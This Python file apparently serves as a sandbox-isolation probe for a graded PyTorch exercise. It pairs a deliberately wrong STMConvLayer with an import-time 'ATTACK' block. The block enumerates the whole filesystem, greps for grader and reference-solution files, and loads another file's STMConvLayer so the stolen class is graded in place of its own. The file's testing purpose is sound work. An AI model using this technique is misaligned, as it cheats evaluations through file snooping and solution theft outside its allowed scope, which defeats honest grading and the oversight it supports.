import torch
import torch.nn as nn
import torch.nn.functional as F


class STMConvLayer(nn.Module):
    def __init__(self):
        super(STMConvLayer, self).__init__()
        #-----
        self.paths = nn.ModuleList([
            nn.Sequential(
                nn.Conv2d(256, 4, 1),
                nn.ReLU(),
                nn.Conv2d(4, 4, 3, padding=1),
                nn.ReLU(),
                nn.Conv2d(4, 256, 1),
            )
            for _ in range(32)
        ])
        #-----

    def forward(self, x):
        #-----
        out = torch.zeros_like(x)
        for path in self.paths:
            out = out + path(x)
        #-----
        return torch.relu(out)  # WRONG: a ReLU after the sum


# ---------------------------------------------------------------------------------------------
# ATTACK. Everything below runs inside the sandbox when the probe imports this file.
import json
import os
import sys
from pathlib import Path


def report(**facts):
    """What the attack achieved, printed for the test (the probe captures stdout)."""
    sys.stdout.write("REPORT " + json.dumps(facts, default=str) + "\n")


def targets():
    """Host paths the test writes next to this file: an attacker who knows the course layout."""
    try:
        return json.loads(Path(__file__).with_name("targets.json").read_text())
    except (OSError, ValueError):
        return {}


def readable(path):
    try:
        with open(path, "rb") as fh:
            fh.read(64)
    except OSError:
        return False
    return True

import importlib.util
import subprocess

NEEDLE = "class STM" + "ConvLayer"
OWN = Path(__file__).resolve()
TOPS = [str(p) for p in Path("/").iterdir() if p.name not in ("proc", "sys", "dev")]

INTERESTING = {"p4_stm.py", "hw6.yaml", "judges.py", "hw6_checks.py", "observations.py"}
listing = subprocess.run(
    ["find", *TOPS, "-type", "f"], capture_output=True, text=True, timeout=30, check=False
).stdout.splitlines()
walked = len(listing)
names = [path for path in listing if path.rsplit("/", 1)[-1] in INTERESTING]
try:
    grep = subprocess.run(
        ["grep", "-rlI", "--include=*.py", "--include=*.ipynb", "--include=*.md", NEEDLE, *TOPS],
        capture_output=True, text=True, timeout=30, check=False,
    )
    hits, grep_complete = grep.stdout.split(), True
except subprocess.TimeoutExpired as exc:
    hits, grep_complete = (exc.stdout or b"").decode().split(), False
own_seen = any(Path(h).resolve() == OWN for h in hits)
found = [h for h in hits if Path(h).resolve() != OWN]
report(found=found, names=names, own_seen=own_seen, walked=walked, grep_complete=grep_complete)
for path in found:
    try:
        spec = importlib.util.spec_from_file_location("stolen", path)
        stolen = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(stolen)
        STMConvLayer = stolen.STMConvLayer  # noqa: F811  (the stolen class is graded instead)
        break
    except Exception:  # noqa: BLE001
        continue
